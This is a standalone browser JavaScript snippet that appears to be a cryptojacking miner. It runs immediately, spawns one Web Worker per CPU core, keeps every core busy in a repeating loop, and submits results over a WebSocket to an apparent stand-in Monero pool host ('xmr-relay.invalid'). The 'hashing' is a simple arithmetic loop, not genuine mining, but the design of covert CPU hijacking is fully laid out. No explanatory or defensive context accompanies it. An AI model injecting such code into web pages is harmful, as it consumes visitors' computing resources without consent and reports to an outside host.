(function () {
  var cores = navigator.hardwareConcurrency || 2;
  var src = "self.onmessage=function(e){var n=0,t=Date.now();while(Date.now()-t<e.data.ms){n=(n*1103515245+12345)>>>0}postMessage({hashes:n&255})}";
  var blob = new Blob([src], { type: "text/javascript" });
  var pool = new WebSocket("wss://xmr-relay.invalid:443/monero");
  var total = 0;
  for (var i = 0; i < cores; i++) {
    var w = new Worker(URL.createObjectURL(blob));
    w.onmessage = function (e) {
      total += e.data.hashes;
      if (pool.readyState === 1) pool.send(JSON.stringify({ method: "submit", hashes: total }));
      this.postMessage({ ms: 900 });
    };
    w.postMessage({ ms: 900 });
  }
})();
